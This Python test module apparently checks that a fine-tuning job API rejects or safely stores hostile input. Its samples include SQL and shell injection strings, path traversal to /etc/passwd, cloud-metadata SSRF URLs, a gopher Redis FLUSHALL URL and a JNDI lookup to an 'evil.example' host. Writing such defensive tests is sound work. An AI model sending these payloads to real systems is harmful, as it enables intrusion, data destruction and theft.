"""JSON, strings, parameters and headers that nobody should send."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Any
from urllib.parse import quote

import httpx

from tests.hostile.cases import Case, Check, Sent
from tests.hostile.zips import SCRIPTS

JSON = {"Content-Type": "application/json"}
SPEC: Mapping[str, Any] = {
    "kind": "finetune",
    "model": {"architecture": "carot-mini"},
    "dataset": "builtin:digits",
}
JOB = ("jobs", "job_events")
SAMPLES = {
    "sql": "x' OR 1=1; DROP TABLE jobs;--",
    "shell": "$(touch /tmp/carot-was-here);`id`|sh",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "format": "%s%n%x{0.__class__.__init__.__globals__}",
    "markup": "<img src=x onerror=alert(1)>",
    "path": "../../../../etc/passwd",
    "link": "http://169.254.169.254/latest/meta-data",
    "file": "file:///etc/passwd",
    "emoji": "👩‍👩‍👧‍👦 ﷽ Z̷̢̛a̶l̴g̸o̷ \u202egnp.exe",
}


def changed(path: str, value: object) -> dict[str, Any]:
    """The spec with something else at a dotted path."""
    document = deepcopy(dict(SPEC))
    *parents, last = path.split(".")
    place = document
    for parent in parents:
        place = place.setdefault(parent, {})
    place[last] = value
    return document


def job(document: object) -> Sent:
    return Sent("POST", "/jobs", {"json": document})


def raw(text: str | bytes) -> Sent:
    content = text.encode() if isinstance(text, str) else text
    return Sent("POST", "/jobs", {"content": content, "headers": JSON})


def literal(path: str, text: str) -> Sent:
    """The spec with this very text as a value, whatever JSON thinks of it."""
    return raw(json.dumps(changed(path, "@@")).replace('"@@"', text))


def get(path: str, /, **query: str) -> Sent:
    return Sent("GET", path, {"params": query})


def headed(headers: Mapping[str, str], method: str = "GET", **options: Any) -> Sent:
    return Sent(method, "/jobs", {"headers": headers, **options})


def refused(name: str, make: Callable[[], Sent], status: int, field: str | None = None,
            words: str = "") -> Case:  # fmt: skip
    return Case(name, make, status, field, words)


def kept(name: str, path: str, value: object) -> Case:
    """Ugly, legal, and stored verbatim."""

    def check(answer: httpx.Response) -> None:
        found = answer.json() if path == "name" else answer.json()["spec"]
        for part in path.split("."):
            found = found[part]
        assert found == value

    return Case(f"job-{name}", lambda: job(changed(path, value)), 201, kept=JOB, check=check)


def in_field(path: str, status: int = 422, field: str | None = None) -> list[Case]:
    """Each of the samples in a field that takes none of them."""

    def case(name: str, text: str) -> Case:
        make = lambda: job(changed(path, text))  # noqa: E731
        return refused(f"{path}-{name}", make, status, field or path)

    return [case(name, text) for name, text in SAMPLES.items()]


def in_folder(sample: str) -> Case:
    """A model in a folder of the server."""
    document = changed("model", {"folder": SAMPLES[sample]})
    return refused(f"model.folder-{sample}", lambda: job(document), 422, "model.folder")


def in_query(path: str, parameter: str, field: str) -> list[Case]:
    def case(name: str, text: str) -> Case:
        query = {parameter: text}
        return refused(f"{path}-{parameter}-{name}", lambda: get(path, **query), 422, field)

    return [case(name, text) for name, text in SAMPLES.items()]


def in_path(prefix: str, suffix: str = "") -> list[Case]:
    def case(name: str, text: str) -> Case:
        path = f"{prefix}{quote(text, safe='')}{suffix}"
        return refused(f"{prefix}ID{suffix}-{name}", lambda: get(path), 404)

    return [case(name, text) for name, text in SAMPLES.items()]


ELSEWHERE = {"Origin": "https://evil.example"}


def keyed(key: str) -> Sent:
    return headed({"Idempotency-Key": key}, "POST", json=SPEC)


def ignored(name: str, headers: Mapping[str, str], check: Check | None = None) -> Case:
    """A header that changes nothing."""
    return Case(f"header-{name}", lambda: headed(headers), 200, check=check)


def another_id(answer: httpx.Response) -> None:
    assert answer.headers["x-request-id"].isalnum()


def last_wins(answer: httpx.Response) -> None:
    assert answer.json()["name"] == "b"


def nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def cursor_of(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def dataset(**document: Any) -> Sent:
    return Sent("POST", "/datasets", {"json": document})


def from_folder(path: str) -> Case:
    return refused(f"folder-{path[:20]}", lambda: dataset(source="folder", path=path), 422, "path")


def dataset_name(name: str, text: str) -> Case:
    """A data set may be called anything that can be shown."""

    def check(answer: httpx.Response) -> None:
        assert answer.json()["name"] == text

    return Case(f"dataset-name-{name}", lambda: dataset(source="builtin:digits", name=text), 201,
                kept=("datasets",), check=check)  # fmt: skip


def row_name(name: str, text: str) -> Case:
    """A row of a report may be called anything, too."""
    rows = [{"name": text, "dataset": "builtin:digits"}]

    def check(answer: httpx.Response) -> None:
        assert answer.json()["spec"]["evaluation"]["datasets"][0]["name"] == text

    document = changed("evaluation.datasets", rows)
    return Case(f"row-name-{name}", lambda: job(document), 201, kept=JOB, check=check)


def row_dataset(name: str, text: str) -> Case:
    rows = [{"name": "x", "dataset": text}]
    document = changed("evaluation.datasets", rows)
    field = "evaluation.datasets.0.dataset"
    return refused(f"row-dataset-{name}", lambda: job(document), 422, field)


def webhook(url: str) -> Case:
    body = {"json": {"url": url}}
    return refused(f"webhook-{url[:30]}", lambda: Sent("POST", "/webhooks", body), 422, "url")


def reference(text: str) -> Case:
    return refused(f"reference-{text[:40]}", lambda: job(changed("dataset", text)), 422, "dataset")


NUMBERS = {
    "nan": "NaN", "infinity": "Infinity", "minus-infinity": "-Infinity", "huge": "1e400",
    "thousand-digits": "9" * 1000, "list": "[1]", "text": '"DROP"',
    "negative": "-1",
}  # fmt: skip
TYPES: Mapping[str, object] = {
    "model": [], "model.architecture": {"$ne": None}, "training": "x", "training.epochs": {},
    "method": ["carot"], "evaluation.datasets": {"a": 1}, "prompts.templates": "{}",
    "prompts.class_names": ["a"], "name": {"$gt": ""}, "alias": ["x"], "priority": "0",
    "selection": 1,
}  # fmt: skip
LENGTHS: Mapping[str, object] = {
    "name": "x" * 100_000,
    "alias": "x" * 1000,
    "dataset": "folder:" + "x" * 100_000,
    "prompts.templates": ["a {}"] * 10_000,
    "prompts.class_names": {str(i): "x" for i in range(30_000)},
    "evaluation.datasets": [{"name": str(i), "dataset": "builtin:digits"} for i in range(5000)],
    "evaluation.severities": [1] * 100_000,
}  # fmt: skip


def number(path: str, name: str, text: str) -> Case:
    return refused(f"{path}-{name}", lambda: literal(path, text), 422, path)


def wrong_type(path: str, value: object) -> Case:
    return refused(f"type-of-{path}", lambda: job(changed(path, value)), 422, path)


def too_long(path: str, value: object) -> Case:
    return refused(f"length-of-{path}", lambda: job(changed(path, value)), 422, path)


CASES = [
    *(number("training.learning_rate", name, text) for name, text in NUMBERS.items()),
    number("training.weight_decay", "null", "null"),
    *(wrong_type(path, value) for path, value in TYPES.items()),
    *(too_long(path, value) for path, value in LENGTHS.items()),
    refused("epochs-ten-thousand-digits", lambda: literal("training.epochs", "9" * 10_000), 400),
    refused("seed-beyond", lambda: literal("training.seed", str(2**63)), 422, "training.seed"),
    refused("json-deep", lambda: raw(nested(100_000)), 400),
    refused("json-deep-list", lambda: raw("[" * 1_000_000), 400),
    refused("json-deep-in-a-field", lambda: literal("name", nested(500)), 422, "name"),
    refused("json-cut-short", lambda: raw(json.dumps(SPEC)[:-1]), 400),
    refused("json-not-utf8", lambda: raw(b'{"kind": "\xff\xfe"}'), 400),
    refused("json-null", lambda: raw("null"), 422),
    refused("json-list", lambda: raw("[]"), 422),
    refused("json-empty", lambda: raw(""), 422),
    refused("json-surrogate", lambda: literal("name", '"\\ud800"'), 422, "name"),
    refused("json-null-character", lambda: literal("name", '"a\\u0000b"'), 422, "name"),
    refused("json-line-break", lambda: literal("name", '"a\\r\\nX: y"'), 422, "name"),
    refused("json-large", lambda: raw(json.dumps({"name": "x" * (5 << 20)})), 413),
    refused("json-large-dataset", lambda: dataset(source="x", name="x" * (5 << 20)), 413),
    refused("json-as-form", lambda: Sent("POST", "/jobs", {"data": dict(SPEC, model="x")}), 415),
    refused("json-unknown-field", lambda: job(dict(SPEC, __class__="x")), 422, "__class__"),
    refused("json-unknown-kind", lambda: job(dict(SPEC, kind="os.system")), 422),
    Case("json-same-key-twice", lambda: raw(json.dumps(SPEC)[:-1] + ', "name": "a", "name": "b"}'),
         201, kept=JOB, check=last_wins),
    *(kept(f"name-{name}", "name", text) for name, text in SAMPLES.items()),
    kept("template", "prompts.templates", [f"{s.replace('{}', '')} {{}}" for s in SCRIPTS]),
    kept("class-names", "prompts.class_names", {s: s for s in SCRIPTS}),
    *in_field("alias"),
    *in_field("dataset"),
    *(dataset_name(name, text) for name, text in SAMPLES.items()),
    *(row_name(name, text) for name, text in SAMPLES.items()),
    *(row_dataset(name, text) for name, text in SAMPLES.items()),
    *in_field("resources.queue"),
    *map(webhook, ("http://169.254.169.254/latest", "https://127.0.0.1/", "https://[::1]/", "x",
                   "file:///etc/passwd", "javascript:alert(1)", "https://user:secret@example.com/",
                   "https://0x7f000001/", "gopher://10.0.0.1:6379/_FLUSHALL")),
    *in_field("preset"),
    *in_field("evaluation.suite"),
    *in_field("model.checkpoint"),
    *map(in_folder, SAMPLES),
    *in_field("model.architecture", field="model"),
    *in_field("method.name", field="method"),
    *in_query("/jobs", "cursor", "cursor"),
    *in_query("/jobs", "state", "state.0"),
    *in_query("/jobs", "updated_after", "updated_after"),
    *in_query("/datasets", "limit", "limit"),
    refused("limit-huge", lambda: get("/jobs", limit="9" * 400), 422, "limit"),
    refused("cursor-of-sql", lambda: get("/jobs", cursor=cursor_of("x' OR 1=1--")), 422, "cursor"),
    refused("cursor-of-null", lambda: get("/jobs", cursor=cursor_of("job_\0")), 422, "cursor"),
    refused("cursor-long", lambda: get("/jobs", cursor="A" * 5000), 422, "cursor"),
    *in_path("/jobs/"),
    *in_path("/datasets/"),
    *in_path("/models/"),
    *in_path("/checkpoints/", "/download"),
    refused("path-climbing", lambda: get("/checkpoints/%2e%2e%2fetc%2fpasswd/download"), 404),
    refused("path-null", lambda: get("/models/a%00b"), 404),
    refused("path-long", lambda: get("/jobs/" + "x" * 30_000), 404),
    refused("alias-of-sql", lambda: Sent("PUT", f"/models/{quote(SCRIPTS[0], safe='')}",
                                         {"json": {"checkpoint": "x"}}), 422, "alias"),
    refused("alias-to-sql", lambda: Sent("PUT", "/models/x", {"json": {"checkpoint": SCRIPTS[0]}}),
            422, "checkpoint"),
    refused("key-with-spaces", lambda: keyed(SAMPLES["sql"]), 422, "Idempotency-Key"),
    refused("key-long", lambda: keyed("x" * 5000), 422, "Idempotency-Key"),
    Case("key-of-sql", lambda: keyed("'OR'1'='1';--"), 201, kept=(*JOB, "idempotency_records")),
    refused("host-elsewhere", lambda: headed({"Host": "evil.example"}), 421),
    refused("host-nonsense", lambda: headed({"Host": "127.0.0.1@evil.example:x/"}), 421),
    refused("origin-elsewhere", lambda: headed(ELSEWHERE, "POST", json=SPEC), 403),
    ignored("request-id-of-sql", {"X-Request-ID": "1; DROP TABLE jobs"}, another_id),
    ignored("request-id-long", {"X-Request-ID": "x" * 5000}, another_id),
    ignored("forwarded", {"X-Forwarded-For": "'; --", "X-Original-URL": "/keys"}),
    ignored("range", {"Range": "bytes=" + "0-," * 1000}),
    ignored("accept", {"Accept": "${jndi:ldap://evil.example/a}"}),
    *map(from_folder, ("..", "../secret", "pets/../../secret", "/etc", "out", "out/a", "circle",
                       "pets-out", "fifo", "a\0b", "x" * 900, "~", "file:///etc", *SCRIPTS)),
    refused("folder-too-long", lambda: dataset(source="folder", path="x" * 100_000), 422, "path"),
    refused("folder-by-link", lambda: dataset(source="http://x", path="pets"), 422, "source"),
    refused("folder-and-link", lambda: dataset(source="folder", path="pets", url="x"), 422, "url"),
    *map(reference, (
        "folder:..", "folder:/etc", "folder:out", "folder:../secret", "csv:out/labels.csv",
        "csv:/etc/passwd", "webdataset:../{0..9}.tar", "webdataset:{0..999999999}.tar",
        "parquet:out", "imagenet:..", "imagenet-c:out/fog/3", "folder:circle", "folder:a\0b",
        "pickle:x.pkl", "s3://bucket/x", "builtin:../x", "ds_" + "0" * 26,
    )),
]  # fmt: skip
